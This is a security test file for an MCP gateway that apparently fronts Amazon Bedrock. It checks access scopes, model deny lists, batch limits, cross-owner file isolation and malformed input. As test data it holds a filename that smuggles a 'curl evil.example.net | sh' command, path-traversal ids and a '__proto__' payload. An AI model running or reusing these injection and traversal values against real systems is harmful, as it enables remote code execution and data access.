import { createHash, randomUUID } from 'node:crypto';
import type { Authenticator } from '../../function/auth/authenticate.ts';
import type { Caller } from '../../function/auth/caller.ts';
import type { ConverseResponse } from '../../function/dialects/converse.gen.ts';
import type { Outcome } from '../../function/dialects/outcome.ts';
import { bedrockSimulator } from '../../local/simulators/bedrock/simulator.ts';
import type { RunningSimulator } from '../../local/simulators/simulator.ts';
import { mcpApp, posted } from '../mcp/app.ts';
import { called, rpc } from '../mcp/rpc.ts';
import { bedrockKey, type TestApp } from '../support/app.ts';
import { memoryStore } from '../support/memory-store.ts';
import { storageOver } from '../support/storage.ts';

const key = bedrockKey();
const hidden = 'amazon.nova-pro-v1:0';
let simulator: RunningSimulator;

beforeAll(async () => {
  simulator = await bedrockSimulator.start({ keys: () => [key], region: 'us-east-1' });
});
afterAll(() => simulator.close());

/** A server whose one caller has a Bedrock key, and what the test adds. */
function serverFor(caller: Partial<Caller> = {}): TestApp {
  const authenticator: Authenticator = {
    authenticate: ({ text, sha256 }) => ({
      id: 'caller',
      method: 'registered',
      isProven: true,
      bedrock: { kind: 'bearer', token: key },
      cacheKey: createHash('sha256').update(`${text}${sha256}`).digest('hex'),
      ...caller,
    }),
  };
  return mcpApp({
    endpoint: simulator.url,
    catalog: {
      models: { 'gpt-4o': { target: 'bedrock:amazon.nova-lite-v1:0' }, other: { target: `bedrock:${hidden}` } },
    },
    services: { authenticators: [authenticator] },
  });
}

const chat = (model: string, id?: unknown) => called('chat', { model, prompt: 'Hello' }, id);
const times = <Item>(count: number, of: (index: number) => Item) =>
  Array.from({ length: count }, (_, index) => of(index));

describe('a caller without the rights', () => {
  const chatOnly: Partial<Caller> = { scopes: ['inference'] };
  const member: Partial<Caller> = {
    project: '000000000001',
    rules: { project: { models: { mode: 'deny_list', ids: ['other', hidden] } } },
  };
  const listed: Partial<Caller> = { models: ['gpt-4o'] };

  test.each([
    ['chat', 'gpt-4o', { scopes: ['models.read'] }, 'Missing scopes: inference'],
    ['embed', 'gpt-4o', { scopes: ['models.read'] }, 'Missing scopes: inference'],
    ['count_tokens', 'gpt-4o', { scopes: ['models.read'] }, 'Missing scopes: inference'],
    ['list_models', undefined, chatOnly, 'Missing scopes: models.read'],
    ['chat', 'other', listed, 'may not use this model'],
    ['count_tokens', hidden, listed, 'may not use this model'],
  ] satisfies [string, string | undefined, Partial<Caller>, string][])(
    'may not call %s with %j, being %j',
    async (tool, model, caller, message) => {
      const args = { list_models: {}, embed: { model, input: ['x'] } }[tool] ?? { model, prompt: 'x' };
      const { replies } = await rpc(serverFor(caller), called(tool, args));
      expect(replies.map(({ result }) => [result?.isError, JSON.stringify(result?.content)])).toEqual([
        [true, expect.stringContaining(message)],
      ]);
    },
  );

  test.each([listed, member])('sees no model that it may not use, being %j', async (caller) => {
    const app = serverFor(caller);
    const read = { jsonrpc: '2.0', id: 2, method: 'resources/read', params: { uri: 'bedrock-gateway://models' } };
    for (const message of [called('list_models', {}), read]) {
      const { replies } = await rpc(app, message);
      expect(JSON.stringify(replies)).toContain('gpt-4o');
      expect(JSON.stringify(replies)).not.toMatch(/other|nova-pro/);
    }
  });
});

describe('batches', () => {
  test('each of ten calls is answered and logged by itself', async () => {
    const app = serverFor();
    const { status, replies } = await rpc(
      app,
      times(10, (index) => chat(index === 3 ? 'none' : 'gpt-4o', index)),
    );
    expect(status).toBe(200);
    expect(replies.map(({ id }) => Number(id)).toSorted((a, b) => a - b)).toEqual(times(10, (index) => index));
    expect(replies.filter(({ result }) => result?.isError).map(({ id }) => id)).toEqual([3]);
    expect(app.log.filter(({ endpoint }) => endpoint === '/v1/chat/completions')).toHaveLength(10);
  });

  test.each([
    ['eleven messages', times(11, (index) => chat('gpt-4o', index)), -32_600],
    ['two requests with one id', [chat('gpt-4o', 1), chat('gpt-4o', 1)], -32_600],
    ['a subscription', { jsonrpc: '2.0', id: 1, method: 'subscriptions/listen', params: {} }, -32_601],
  ])('%s: no call is made', async (_what, message, code) => {
    const app = serverFor();
    const { status, replies } = await rpc(app, message);
    expect([status, replies.map(({ error }) => error?.code)]).toEqual([400, [code]]);
    expect(app.log.map(({ endpoint, error }) => [endpoint, error])).toEqual([['/mcp', 'invalid_message']]);
  });
});

test.each([
  [400, 'nothing', ''],
  [400, 'no JSON', '{"jsonrpc":'],
  [400, 'a number', '5'],
  [400, 'null', 'null'],
  [400, 'a list in a list', '[[]]'],
  [400, '50,000 levels', `${'['.repeat(50_000)}${']'.repeat(50_000)}`],
  [400, 'an infinite number', '{"jsonrpc":"2.0","id":1,"method":"ping","params":{"x":1e999}}'],
  [202, 'a cancellation', { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 1 } }],
])('the status is %i for %s', async (status, _what, message) => {
  const app = serverFor();
  const answer = await rpc(app, message);
  expect(answer.status).toBe(status);
  expect(app.log.map(({ endpoint, stack }) => [endpoint, stack])).toEqual([['/mcp', undefined]]);
});

test.each([
  ['application/x-www-form-urlencoded', 415],
  ['text/plain; x=application/json', 415],
  ['application/json-rpc', 415],
])('the content type %s gets a %i', async (type, status) => {
  expect((await rpc(serverFor(), chat('gpt-4o'), { 'content-type': type })).status).toBe(status);
});

test('arguments of 110,000 values are refused before they are checked', async () => {
  const { replies } = await rpc(
    serverFor(),
    called('chat', { model: 'gpt-4o', prompt: 'x', images: times(110_000, () => 0) }),
  );
  const [{ result, error } = {}] = replies;
  expect(`${JSON.stringify(result)} ${error?.message}`).toContain('maximum of 100000 elements');
});

test.each(['constructor', '__proto__', 'toString', 'chat\n', ''])('there is no tool %j', async (name) => {
  const { replies } = await rpc(serverFor(), called(name, {}));
  expect(replies.map(({ error }) => error?.code)).toEqual([-32_602]);
});

test('a caller who hangs up ends the calls that were made for it', async () => {
  const app = serverFor();
  const caller = new AbortController();
  const opened = app.open('/mcp', { ...posted(chat('gpt-4o')), signal: caller.signal });
  caller.abort();
  await (await opened).text().catch(() => '');
  await vi.waitFor(() => expect(app.log.map(({ endpoint }) => endpoint)).toContain('/mcp'));
  expect(app.log.every(({ status }) => status !== 500)).toBe(true);
});

/** An answer of a model that comes when it is told to. */
function createRelease() {
  const { promise: released, resolve } = Promise.withResolvers<Outcome<ConverseResponse>>();
  const message = { role: 'assistant' as const, content: [{ text: 'Hi' }] };
  const usage = { inputTokens: 1, outputTokens: 1, totalTokens: 2 };
  const value = { output: { message }, stopReason: 'end_turn' as const, usage, metrics: { latencyMs: 1 } };
  return { released, release: () => resolve({ ok: true, value }) };
}

test('a flood of cancellations with another key stops no call', async () => {
  const thinking = createRelease();
  const app = mcpApp({
    backends: {
      bedrock: { converse: { call: () => thinking.released, open: () => Promise.reject(new Error('not asked')) } },
    },
  });
  const as = (name: string) => ({ authorization: `Bearer ${bedrockKey(name)}` });
  const call = rpc(app, chat('gpt-4o', 1), as('victim'));
  const cancellation = { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 1 } };
  const flood = times(200, () =>
    rpc(
      app,
      times(10, () => cancellation),
      as('attacker'),
    ),
  );
  expect(new Set((await Promise.all(flood)).map(({ status }) => status))).toEqual(new Set([202]));
  expect(
    (
      await rpc(
        app,
        times(11, () => cancellation),
        as('attacker'),
      )
    ).status,
  ).toBe(400);
  thinking.release();
  expect((await call).replies).toMatchObject([{ id: 1, result: { structuredContent: { text: 'Hi' } } }]);
});

describe('files of another owner', () => {
  /** Two callers who both have files, and a file of the first one. */
  async function twoOwners() {
    const store = memoryStore({ now: Date.now });
    const storage = storageOver(store);
    const callers = ['a', 'b'].map((id) => ({ id, sha256: createHash('sha256').update(`token-${id}`).digest('hex') }));
    const app = mcpApp({
      catalog: { callers, storage: storage.settings },
      services: { storage: () => Promise.resolve(storage), newId: () => randomUUID().replaceAll('-', '') },
    });
    const as = (name: string) => ({ authorization: `Bearer token-${name}` });
    const { replies } = await rpc(app, called('upload_file', { filename: 'a.txt', text: 'secret' }), as('a'));
    const { file_id } = (replies[0]?.result?.structuredContent ?? {}) as { file_id: string };
    const call = async (name: string, args: unknown, who: string) => {
      const answer = await rpc(app, called(name, args), as(who));
      return answer.replies[0]?.result ?? answer.replies[0]?.error ?? {};
    };
    return { app, store, file_id, call };
  }

  test('are read by nobody else, and the error is that of a file that is not there', async () => {
    const { call, file_id } = await twoOwners();
    const text = `No such File object: ${file_id}`;
    expect(await call('read_file', { file_id }, 'b')).toEqual({ isError: true, content: [{ type: 'text', text }] });
    expect(await call('read_file', { file_id }, 'a')).toMatchObject({ structuredContent: { text: 'secret' } });
  });

  test.each([
    '..',
    '.',
    '%2e%2e',
    '../files',
    '../../v1/organization/projects',
    '?purpose=user_data',
    '#',
    'x/content',
    '\u0000',
    '\ud800',
    'f'.repeat(1_000),
    '../../caller-a/file/',
  ])('cannot be reached by the id %j', async (id) => {
    const { call, file_id } = await twoOwners();
    for (const [tool, name] of [
      ['read_file', 'file_id'],
      ['upload_file', 'upload_id'],
    ] as const)
      for (const text of [id, `${id}${file_id}`, `${id}/${file_id}`]) {
        const answer = await call(tool, { [name]: text }, 'b');
        expect(answer).toMatchObject({ isError: true });
        expect(JSON.stringify(answer)).not.toMatch(/secret|structuredContent|bucket/);
      }
  });

  test('uploads are completed by nobody else', async () => {
    const { call, store } = await twoOwners();
    const began = await call('upload_file', { filename: 'a.bin', bytes: 3 }, 'a');
    const { upload_id } = (began as { structuredContent: { upload_id: string } }).structuredContent;
    await store.put('caller-a', { kind: 'staging', id: upload_id }, { bytes: Buffer.from('abc') });
    const text = `No such Upload object: ${upload_id}`;
    const refused = { isError: true, content: [{ type: 'text', text }] };
    expect(await call('upload_file', { upload_id }, 'b')).toEqual(refused);
    expect(await call('upload_file', { upload_id }, 'a')).toMatchObject({ structuredContent: { status: 'stored' } });
  });

  test('names of files are never part of a command', async () => {
    const { call } = await twoOwners();
    const filename = "'; curl evil.example.net | sh; '";
    const { content } = (await call('upload_file', { filename, bytes: 3 }, 'a')) as { content: unknown };
    expect(JSON.stringify(content)).not.toContain('evil');
  });

  test('no log line has a name, a content, an id or a link', async () => {
    const { app, call, file_id } = await twoOwners();
    await call('read_file', { file_id }, 'a');
    await call('upload_file', { filename: 'a.txt', bytes: 3 }, 'a');
    expect(app.log.length).toBeGreaterThan(4);
    expect(JSON.stringify(app.log)).not.toMatch(/secret|a\.txt|file-\w{22}|upload_\w{22}|bucket/);
  });
});

test('a Bedrock key that Bedrock refuses stores nothing', async () => {
  const store = memoryStore({ now: Date.now });
  const storage = storageOver(store, { settings: { bedrockKeys: true } });
  const app = mcpApp({
    endpoint: simulator.url,
    catalog: { storage: storage.settings },
    services: { storage: () => Promise.resolve(storage) },
  });
  const headers = { authorization: `Bearer ${bedrockKey('stranger')}` };
  for (const args of [{ filename: 'a', text: 'a' }, { filename: 'a', bytes: 3 }, { upload_id: 'upload_1' }])
    expect((await rpc(app, called('upload_file', args), headers)).replies).toMatchObject([
      { result: { isError: true } },
    ]);
  expect(store.objects.size).toBe(0);
});

test.each([
  ['text', { filename: 'a', text: 'x'.repeat(4_000_000) }],
  ['a name', { filename: 'x'.repeat(4_000_000), text: 'a' }],
  ['a number', { filename: 'a', bytes: 2 ** 60 }],
  ['a fraction', { filename: 'a', bytes: 0.5 }],
  ['depth', { filename: 'a', text: JSON.parse(`${'['.repeat(60)}${']'.repeat(60)}`) }],
  ['a list', [1, 2, 3]],
  ['null', null],
  ['a prototype', JSON.parse('{"__proto__":{"filename":"a","text":"a"}}')],
])('arguments with %s are refused, and nothing is stored', async (_what, args) => {
  const store = memoryStore({ now: Date.now });
  const storage = storageOver(store);
  const app = mcpApp({
    catalog: { storage: storage.settings },
    services: { storage: () => Promise.resolve(storage) },
  });
  const { replies } = await rpc(app, called('upload_file', args));
  expect(replies.map(({ result, error }) => result?.isError ?? error?.code)).not.toEqual([undefined]);
  expect(store.objects.size).toBe(0);
  expect(app.log.map(({ stack }) => stack)).toEqual(app.log.map(() => undefined));
});
